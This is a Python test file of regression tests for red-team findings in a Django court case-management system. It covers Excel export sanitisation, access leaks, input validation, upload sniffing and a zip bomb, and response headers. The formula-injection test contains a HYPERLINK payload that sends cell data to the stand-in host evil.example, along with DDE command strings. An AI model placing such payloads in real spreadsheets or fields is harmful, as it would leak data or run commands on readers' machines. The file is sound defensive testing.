"""Issue 20, the red team's findings 5 and 11–15, each reproduced as the attack it was: formula injection in the
Excel exports, the recorded chief watching his department's count, a drill-down listing another court's cases,
the inputs that gave server errors, uploads that lie about their type or size, and the headers."""

from __future__ import annotations

import datetime as dt
import io
import json
import os
import re
import socket
import subprocess
import sys
import time
import urllib.request
import zipfile
from pathlib import Path

import pytest
import time_machine
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpResponse
from django.test import Client, RequestFactory
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accountability.middleware import RequestSizeLimitMiddleware
from accountability.models import AuditEvent
from accountability.xlsx import workbook_bytes
from cases import attachments
from cases.models import Attachment, Case
from dashboards.selectors import Window
from evaluation.metrics import Window as MetricWindow
from evaluation.models import MetricResult
from evaluation.services import metrics_store
from interference import services as interference
from interference.models import InterferenceAttachment, InterferenceRecord
from interference.selectors import quarter_of
from tests.conftest import client_for
from tests.factories import OrganisationFactory, make_officer

pytestmark = pytest.mark.django_db
PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
W = Window(dt.date(2025, 1, 1), dt.date(2025, 12, 31))
KEY = "2025-01-01_2025-12-31"


@pytest.fixture(autouse=True)
def media(tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path / "uploads"
    return settings.MEDIA_ROOT


def record(world, case, *, actor=None, person=None, files=(), **extra):
    fields = {
        "source_kind": "leading_cadre",
        "person_name": "某领导",
        "person_employer": "某区委",
        "person_post": "副书记",
        "relationship": "当事人亲属的同学",
        "channel": "phone",
        "content": "询问案件进展并希望关照",
        "handling": "告知依法办理，未予理会",
        "occurred_at": timezone.now() - dt.timedelta(minutes=30),
    }
    fields.update(extra)
    return interference.record_interference(
        actor=actor or world.judge, case=case, person_officer=person, files=list(files), **fields
    )


def form(case, **changes):
    data = {
        "case_number": case.case_number,
        "source_kind": "lawyer",
        "person_name": "律师甲",
        "channel": "phone",
        "occurred_at": (timezone.localtime() - dt.timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M"),
        "content": "询问案件进展",
        "handling": "告知依法办理",
    }
    data.update(changes)
    return data


def docx(entries: int = 2, *, body: bytes = b"<w:document/>") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", body)
        for n in range(entries - 2):
            archive.writestr(f"word/media/{n}.xml", "")
    return buffer.getvalue()


# --- 5: formula injection ----------------------------------------------------------------------------------


def test_text_that_would_start_a_formula_is_exported_as_text_and_numbers_stay_numbers(world):
    attack = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
    record(
        world,
        world.case(),
        person_name=attack,
        person_employer="+cmd|' /C calc'!A0",
        person_post="-2+3",
        relationship="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    response = client_for(world.inspector).get(reverse("interference:export"))
    cells = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2))[0]
    assert [(c.value, c.data_type) for c in cells[2:6]] == [
        (attack, "s"),
        ("+cmd|' /C calc'!A0", "s"),
        ("-2+3", "s"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "s"),
    ]
    assert all(c.data_type != "f" for c in cells)
    assert (cells[0].value, cells[0].data_type) == (1, "n")  # the sequence number is still a number
    assert response["Cache-Control"] == "no-store"


def test_the_shared_helper_neutralises_tab_and_carriage_return_and_keeps_numbers():
    rows = [["\t=1+1", "\r=1+1", "=1+1", -5, 2.5, "-", "普通文本", "a\x01b"]]
    sheet = load_workbook(io.BytesIO(workbook_bytes("t", list("abcdefgh"), rows))).active
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [c.data_type for c in cells] == ["s", "s", "s", "n", "n", "s", "s", "s"]
    assert [c.value for c in cells[2:7]] == ["=1+1", -5, 2.5, "-", "普通文本"]
    assert cells[7].value == "a\ufffdb"  # a control character XML cannot hold does not break the export


# --- 11: the recorded chief and his department's count --------------------------------------------------------


def counts_on_reports_page(officer) -> dict[str, str]:
    year, quarter = quarter_of(timezone.localdate())
    html = client_for(officer).get(reverse("interference:reports"), {"year": year, "quarter": quarter})
    body = html.content.decode()
    return dict(re.findall(r'<tr id="report-\d+" class="\w+"><td>[^<]*</td><td>([^<]*)</td><td>(\d+)</td>', body))


def test_a_chief_does_not_see_his_departments_count_move_when_a_record_names_him(world):
    case = world.case()
    for _ in range(5):
        record(world, case, actor=world.judge2)  # five records of outside people by his division's judges
    assert counts_on_reports_page(world.chief) == {"民事审判第一庭": "5"}
    record(world, case, actor=world.judge, person=world.chief)  # a judge of his division records him
    assert counts_on_reports_page(world.chief) == {"民事审判第一庭": "5"}  # was 6: he learned he was recorded
    record(world, case, actor=world.judge, person=world.judge2)  # nor one naming someone he leads
    assert counts_on_reports_page(world.chief) == {"民事审判第一庭": "5"}
    # the president leads the whole court: neither record is in his count; the register's inspector sees all 7
    assert counts_on_reports_page(world.president)["民事审判第一庭"] == "5"
    assert counts_on_reports_page(world.inspector)["民事审判第一庭"] == "7"
    assert InterferenceRecord.objects.count() == 7


def test_a_report_filed_by_the_chief_counts_what_he_may_know_of(world):
    case = world.case()
    year, quarter = quarter_of(timezone.localdate())
    when = timezone.now() - dt.timedelta(minutes=30)
    record(world, case, actor=world.judge, person=world.chief, occurred_at=when)
    # after the quarter, his report is a nil report: it does not tell him a record names him
    start_next = dt.date(year + (quarter == 4), (3 * quarter) % 12 + 1, 1)
    with time_machine.travel(dt.datetime.combine(start_next + dt.timedelta(days=3), dt.time(10)), tick=False):
        filed = interference.report_file(actor=world.chief, department=world.civil, year=year, quarter=quarter)
    assert (filed.records, filed.is_nil) == (0, True)


# --- 12: the drill-down follows case visibility ----------------------------------------------------------------


def test_a_judges_drill_down_does_not_list_the_intermediate_courts_retrials(world):
    intermediate = OrganisationFactory(
        code="SH02", name="上海市第二中级人民法院", level="intermediate", parent=world.high, case_code="沪02"
    )
    appellate = make_officer("judge_sh02", roles=["judge"], organisation=intermediate, name="中院法官")
    originals = [
        world.case(filed_on=dt.date(2024, 3, 1), closed_on=dt.date(2024, 9, 1), closing_method="judgment")
        for _ in range(2)
    ]
    retrials = [
        world.case(
            organisation=intermediate,
            case_number=f"（2025）沪02民再{n}号",
            procedure="retrial",
            original_case=original,
            filed_on=dt.date(2025, 2, 1),
            closed_on=dt.date(2025, 6, 1),
            closing_method="judgment",
            outcome="amended",
            lead_officer=None,
            cause="房屋买卖合同纠纷",
        )
        for n, original in enumerate(originals, start=1)
    ]
    Case.objects.filter(pk__in=[r.pk for r in retrials]).update(lead_officer=appellate)  # set-up only
    metrics_store(window=MetricWindow(W.start, W.end))
    stored = MetricResult.objects.get(
        level="officer",
        subject=world.judge.officer_id,
        window_from=W.start,
        window_to=W.end,
        metric="retrial_amended_remanded_ratio",
    )
    assert stored.numerator == 2
    judge = client_for(world.judge)
    listed = judge.get("/api/cases/").json()
    visible = {c["case_number"] for c in (listed["results"] if isinstance(listed, dict) else listed)}
    assert not visible & {r.case_number for r in retrials}  # the API hides them from judge1
    response = judge.get(
        "/dashboards/cases/",
        {
            "scope": f"officer:{world.judge.officer_id}",
            "window": KEY,
            "metric": "retrial_amended_remanded_ratio",
            "part": "numerator",
        },
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert [r.case_number for r in retrials if r.case_number in html] == []
    assert "中院法官" not in html and "房屋买卖合同纠纷" not in html
    assert re.search(r'id="drill-total">(\d+)<', html).group(1) == "2"  # the number still equals the stored one
    assert "此处计入的 2 件案件不在您的查看范围内，未予列出。" in html


# --- 13: inputs that gave server errors ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("person_name", "甲" * 101, "最多 100 个字符"),
        ("person_employer", "某" * 201, "最多 200 个字符"),
        ("person_post", "长" * 101, "最多 100 个字符"),
        ("relationship", "亲" * 201, "最多 200 个字符"),
        ("content", "问" * 200_000, "最多 10000 个字符"),
        ("handling", "处" * 10_001, "最多 10000 个字符"),
        ("content", "询问\x00案件", "空字符"),
        ("case_number", "（2024）\x00", "空字符"),
        ("person_officer_id", "judge\x00", "空字符"),
    ],
)
def test_an_overlong_or_nul_field_is_a_field_error_not_a_server_error(world, field, value, message):
    case = world.case()
    response = client_for(world.judge).post(reverse("interference:new"), form(case, **{field: value}))
    assert response.status_code == 400
    errors = response.context["errors"]
    assert list(errors) == [field] and message in " ".join(str(e) for e in errors[field])
    assert not InterferenceRecord.objects.exists()


def test_a_dashboard_export_of_a_scope_named_with_sheet_forbidden_characters(world):
    world.court.name = "上海[黄浦]:区*?/人民法院\\第一分院（自贸区）审判管理办公室"
    world.court.save(update_fields=["name"])
    world.case(filed_on=dt.date(2025, 3, 1), closed_on=dt.date(2025, 5, 1), closing_method="judgment")
    metrics_store(window=MetricWindow(W.start, W.end))
    response = client_for(world.president).get(
        "/dashboards/export.xlsx", {"scope": f"organisation:{world.court.code}", "window": KEY}
    )
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    title = workbook.active.title
    assert 0 < len(title) <= 31 and not set("[]:*?/\\") & set(title)  # the sheet is named by the window
    assert workbook.properties.title.startswith(world.court.name)  # the whole name is kept
    assert response["Content-Disposition"].startswith("attachment;")


def test_an_audit_cursor_reused_on_the_drill_down_is_refused_cleanly(world):
    auditor = make_officer("auditor", roles=["auditor"], organisation=world.court, name="审计员")
    for n in range(60):
        AuditEvent.objects.create(kind="read", object_type="paging", object_id=f"paging-{n:03d}", outcome="allowed")
    audit = client_for(auditor).get("/audit/").content.decode()
    cursor = re.search(r"cursor=([^&\"]+)", audit).group(1)
    world.case(filed_on=dt.date(2025, 3, 1), closed_on=dt.date(2025, 5, 1), closing_method="judgment")
    metrics_store(window=MetricWindow(W.start, W.end))
    params = f"scope=organisation:{world.court.code}&window={KEY}&metric=closed_count&part=numerator"
    president = client_for(world.president)
    assert president.get(f"/dashboards/cases/?{params}").status_code == 200
    reused = president.get(f"/dashboards/cases/?{params}&cursor={cursor}")
    assert reused.status_code == 400
    assert "（2024）" not in reused.content.decode()


# --- 14: uploads -------------------------------------------------------------------------------------------


def post_action(officer, case, files):
    return client_for(officer).post(
        f"/cases/{case.public_id}/actions/",
        {"action_type": "evidence_exchanged", "note": "证据目录", "version": case.version, "files": files},
        follow=True,
    )


@pytest.mark.parametrize(
    "name", ["page.html", "page.htm", "report.svg", "证据", "scan.png", "contract.docx", "archive.pdf.html"]
)
def test_a_file_whose_name_does_not_match_its_content_is_refused(world, name):
    case = world.case()
    response = post_action(world.judge, case, [SimpleUploadedFile(name, PDF)])
    assert f"{name} 不是允许的文件类型" in response.content.decode()
    assert not Attachment.objects.exists()


def test_a_download_is_named_by_its_content_type_never_rendered_and_never_cached(world):
    case = world.case()
    post_action(world.judge, case, [SimpleUploadedFile("证据目录.PDF", PDF)])
    attachment = Attachment.objects.get()
    response = client_for(world.clerk).get(f"/cases/{case.public_id}/attachments/{attachment.public_id}/")
    assert b"".join(response.streaming_content) == PDF
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''%E8%AF%81%E6%8D%AE%E7%9B%AE%E5%BD%95.pdf"
    assert (response["Content-Type"], response["X-Content-Type-Options"]) == ("application/pdf", "nosniff")
    assert response["Cache-Control"] == "no-store"
    # a file stored as .html before names were checked is offered with its type's extension
    assert attachments.download_name("page.html", "application/pdf") == "page.pdf"
    assert attachments.download_name("扫描件.JPEG", "image/jpeg") == "扫描件.jpeg"
    assert attachments.download_name("x", "text/html") == "x.bin"


def test_an_office_file_of_thousands_of_entries_is_refused_before_the_zip_is_parsed(world, monkeypatch):
    heavy = docx(entries=5000)

    def no_parsing(*args, **kwargs):
        raise AssertionError("the zip was parsed")

    monkeypatch.setattr(attachments.zipfile, "ZipFile", no_parsing)
    started = time.perf_counter()
    assert attachments.sniff(SimpleUploadedFile("heavy.docx", heavy)) is None
    assert time.perf_counter() - started < 0.1
    monkeypatch.undo()
    assert attachments.sniff(SimpleUploadedFile("ok.docx", docx())) == (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    )


def test_an_office_file_too_large_uncompressed_is_refused(world, monkeypatch):
    monkeypatch.setattr(attachments, "ZIP_MAX_UNCOMPRESSED", 10_000)
    bomb = docx(body=b"0" * 20_000)  # compresses to little, expands past the limit
    case = world.case()
    response = post_action(world.judge, case, [SimpleUploadedFile("bomb.docx", bomb)])
    assert "bomb.docx 不是允许的文件类型" in response.content.decode()
    assert attachments.sniff(SimpleUploadedFile("ok.docx", docx())) == (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    )


class _Unreadable(io.RawIOBase):
    def read(self, *args):
        raise AssertionError("the body was read")

    readline = read


def test_a_hundred_megabyte_request_is_refused_before_its_body_is_read():
    request = RequestFactory().post("/cases/x/actions/", data=b"", content_type="multipart/form-data; boundary=b")
    request.META["CONTENT_LENGTH"] = str(100 * 2**20)
    request._stream = _Unreadable()
    middleware = RequestSizeLimitMiddleware(lambda r: HttpResponse(str(len(r.POST))))
    response = middleware(request)
    assert response.status_code == 413
    assert response.content.decode() == "请求过大（100.0\xa0MB）；一次最多可发送 50.0\xa0MB。"
    api = RequestFactory().post("/api/cases/", data=b"", content_type="application/json")
    api.META["CONTENT_LENGTH"] = str(100 * 2**20)
    refused = middleware(api)
    assert (refused.status_code, json.loads(refused.content)["code"]) == (413, "request_too_large")


def test_an_upload_over_the_request_limit_is_refused_with_413(world, settings):
    settings.QUANZE_REQUEST_MAX_BYTES = 4096
    case = world.case()
    response = client_for(world.judge).post(
        f"/cases/{case.public_id}/actions/",
        {
            "action_type": "evidence_exchanged",
            "version": case.version,
            "files": [SimpleUploadedFile("a.pdf", PDF * 200)],
        },
    )
    assert response.status_code == 413
    assert not Attachment.objects.exists()
    assert django_settings.DATA_UPLOAD_MAX_NUMBER_FILES == 2 * django_settings.ATTACHMENT_MAX_FILES


def test_interference_attachments_download_for_those_who_may_read_the_record(world):
    case = world.case()
    kept = record(world, case, actor=world.judge, person=world.judge2, files=[SimpleUploadedFile("录音说明.pdf", PDF)])
    attachment = InterferenceAttachment.objects.get(record=kept)
    url = reverse("interference:attachment", args=[kept.public_id, attachment.public_id])
    for reader in (world.judge, world.inspector, world.filing):  # the recorder and the register
        response = client_for(reader).get(url)
        assert (response.status_code, b"".join(response.streaming_content)) == (200, PDF), reader
        assert response["Content-Disposition"].startswith("attachment;")
        assert response["Cache-Control"] == "no-store"
    # the person recorded, his chief and another court: the same 404 as a missing file
    for outsider in (world.judge2, world.chief, world.president, world.other_judge):
        assert client_for(outsider).get(url).status_code == 404, outsider
    other = record(world, case, actor=world.clerk)
    assert (
        client_for(world.judge)
        .get(reverse("interference:attachment", args=[other.public_id, attachment.public_id]))
        .status_code
        == 404
    )
    assert url in client_for(world.judge).get(reverse("interference:detail", args=[kept.public_id])).content.decode()


# --- 15: headers -----------------------------------------------------------------------------------------


def test_what_a_signed_in_user_is_shown_is_never_cached_and_features_are_off(world):
    case = world.case()
    kept = record(world, case)
    judge = client_for(world.judge)
    for url in (
        f"/cases/{case.public_id}/",
        reverse("interference:detail", args=[kept.public_id]),
        reverse("interference:export"),
        "/api/cases/",
        f"/api/cases/{case.public_id}/",
    ):
        response = judge.get(url)
        assert response.status_code == 200, url
        assert (response["Cache-Control"], response["Pragma"]) == ("no-store", "no-cache"), url
        assert "camera=()" in response["Permissions-Policy"] and "geolocation=()" in response["Permissions-Policy"]
    login = Client().get("/login/")
    assert "camera=()" in login["Permissions-Policy"]


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def test_gunicorn_as_deployed_does_not_name_itself():
    """Started as docker-compose and the README start it (no -c: gunicorn reads ./gunicorn.conf.py)."""
    port = _free_port()
    root = Path(django_settings.BASE_DIR)
    env = {**os.environ, "DEBUG": "1", "SECRET_KEY": "gunicorn-header-test", "SECURE_SSL_REDIRECT": "0"}
    server = subprocess.Popen(
        [str(Path(sys.executable).parent / "gunicorn"), "accountability.wsgi:application"]
        + ["--bind", f"127.0.0.1:{port}", "--workers", "1"],
        cwd=root,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        headers = None
        for _ in range(100):
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/static/css/quanze.css", timeout=2) as reply:
                    headers = reply.headers
                break
            except OSError:
                time.sleep(0.1)
        assert headers is not None, "gunicorn did not answer"
        assert headers.get("Server") is None
        assert headers.get("Content-Type", "").startswith("text/css")
    finally:
        server.terminate()
        server.wait(timeout=10)
